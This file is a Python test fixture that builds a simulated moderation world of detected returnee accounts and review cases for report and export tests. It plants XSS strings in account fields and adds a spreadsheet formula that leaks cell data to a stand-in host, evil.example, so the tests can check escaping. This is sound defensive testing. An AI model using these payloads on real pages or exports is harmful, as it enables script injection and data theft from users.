"""A small simulated world for the report and export tests: ingested, avatars hashed, returnee
lineages saved, attack strings planted in a handle, a display name, evidence and shared posts,
and a review database with confirmed, dismissed and open cases.

Built once per test session (the report and export tests share it) under pytest's base
temporary folder."""

from __future__ import annotations

import hashlib
import json
from dataclasses import dataclass
from pathlib import Path

from hydrawatch.core.model import Case, Evidence
from hydrawatch.ingest import ingest_paths
from hydrawatch.pipeline import detect_returnees, hash_avatars, returnee_cases, save_identities
from hydrawatch.review import ReviewStore, case_id_of
from hydrawatch.signals.imagesynth import SyntheticAvatarFetcher
from hydrawatch.store import snapshots
from hydrawatch.store.duck import Store
from hydrawatch.synth import WorldConfig, generate

SPEC = {"seed": 11, "accounts": 2000, "network": 100, "days": 45}
XSS_HANDLE = "<img src=x onerror=alert('handle')>"
XSS_NAME = '<script>alert("name")</script>'
XSS_POST = '<svg onload=alert("post")> "quoted" & <b>bold</b> '
XSS_EVIDENCE = "<iframe src=javascript:alert('evidence')>"
FORMULA_SUMMARY = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
MODERATOR, SECRET_REASON = "mod-alice", "internal note: seen on the watchlist"
ATTACKS = (XSS_HANDLE, XSS_NAME, XSS_POST.strip(), XSS_EVIDENCE)


@dataclass(frozen=True)
class ReportWorld:
    folder: Path
    store: Path
    review: Path
    xss_account: str  # the newest account of the longest lineage: its handle is an attack string
    confirmed: tuple[str, ...]  # case ids
    dismissed: tuple[str, ...]
    open_cases: tuple[str, ...]
    confirmed_accounts: frozenset[tuple[str, str]]  # (platform, account_id) of subjects and related accounts
    returnee_links: tuple[tuple[str, str], ...]  # (new, old) of confirmed returnee cases


def build_report_world(root: Path) -> ReportWorld:
    marker = root / "world.json"
    if marker.exists():
        saved = json.loads(marker.read_text())
        return ReportWorld(Path(saved["folder"]), Path(saved["store"]), Path(saved["review"]), saved["xss_account"],
                           tuple(saved["confirmed"]), tuple(saved["dismissed"]), tuple(saved["open_cases"]),
                           frozenset(tuple(k) for k in saved["confirmed_accounts"]), tuple(tuple(k) for k in saved["returnee_links"]))
    folder = root / "world"
    generate(WorldConfig(**SPEC), folder)
    store_path, review_path = root / "store.duckdb", root / "review.sqlite"
    with Store(store_path) as store:
        assert not ingest_paths(store, [folder]).failed
        hash_avatars(store, SyntheticAvatarFetcher.from_world(folder), snapshots.avatar_urls(store.con), workers=1)
        result = detect_returnees(store)
        save_identities(store, result)
        table = result.table
        longest = max(result.lineages, key=lambda lineage: (len(lineage.rows), lineage.identity_id))
        xss_account = table.account_id[longest.rows[-1]]
        con = store.con
        con.execute("UPDATE profiles SET username = ?, display_name = ? WHERE account_id = ?", [XSS_HANDLE, XSS_NAME, xss_account])
        con.execute("UPDATE accounts SET username = ? WHERE account_id = ?", [XSS_HANDLE, xss_account])
        con.execute("UPDATE posts SET text = ? || coalesce(text, '') WHERE post_id IN "
                    "(SELECT reposted_post_id FROM posts WHERE reposted_post_id IS NOT NULL)", [XSS_POST])
        evidence = json.dumps([{"signal": "handle", "description": XSS_EVIDENCE, "contribution": 1.0}])
        con.execute("UPDATE identities SET evidence = ? WHERE account_id = ?", [evidence, xss_account])
        # Posted pictures, hashed as the media signals would (made-up hashes: the export only copies them).
        media = [url for (url,) in con.execute("SELECT DISTINCT value FROM entities WHERE kind = 'media' ORDER BY 1").fetchall()]
        con.executemany("INSERT INTO media_hashes VALUES (?, 'pdq', ?, ?, now())",
                        [(url, hashlib.sha256(url.encode()).hexdigest(), 40 + i % 60) for i, url in enumerate(media)])

    cases, labels, summaries = returnee_cases(result)
    by_subject = {case.subject_account_id: case for case in cases}
    chain = [table.account_id[row] for row in longest.rows]
    lineage_cases = [by_subject[a] for a in chain[1:] if a in by_subject]
    others = sorted((c for c in cases if c not in lineage_cases), key=case_id_of)
    network_case = Case("network_account", "twitter", xss_account, 0.91, "network_account", "account-scorer-1", lineage_cases[0].created_at,
                        (Evidence("text", XSS_EVIDENCE, 0.9),), ())
    formula_case = Case("network_account", "twitter", others[0].related_account_ids[0], 0.8, "network_account", "account-scorer-1",
                        lineage_cases[0].created_at, (Evidence("text", "shares releases", 0.8),), ())
    summaries[case_id_of(network_case)] = f"{XSS_NAME} posts like the network"
    summaries[case_id_of(formula_case)] = FORMULA_SUMMARY
    labels[xss_account] = XSS_HANDLE
    confirmed_cases = [*lineage_cases, *others[:3], network_case, formula_case]
    dismissed_cases = others[3:5]
    with ReviewStore(review_path) as review:
        review.upsert([*cases, network_case, formula_case], labels, summaries)
        for case in confirmed_cases:
            review.decide(case_id_of(case), MODERATOR, "confirm", SECRET_REASON)
        for case in dismissed_cases:
            review.decide(case_id_of(case), MODERATOR, "dismiss", "a fan, not the same person")
    confirmed_accounts = {(c.subject_platform, c.subject_account_id) for c in confirmed_cases}
    confirmed_accounts |= {(c.subject_platform, r) for c in confirmed_cases for r in c.related_account_ids}
    decided = {case_id_of(c) for c in [*confirmed_cases, *dismissed_cases]}
    world = ReportWorld(
        folder, store_path, review_path, xss_account, tuple(case_id_of(c) for c in confirmed_cases),
        tuple(case_id_of(c) for c in dismissed_cases),
        tuple(case_id_of(c) for c in [*cases, network_case, formula_case] if case_id_of(c) not in decided),
        frozenset(confirmed_accounts),
        tuple((c.subject_account_id, c.related_account_ids[0]) for c in confirmed_cases if c.case_type == "returnee"),
    )
    marker.write_text(json.dumps({**{k: str(v) if isinstance(v, Path) else v for k, v in world.__dict__.items()},
                                  "confirmed_accounts": sorted(world.confirmed_accounts)}))
    return world
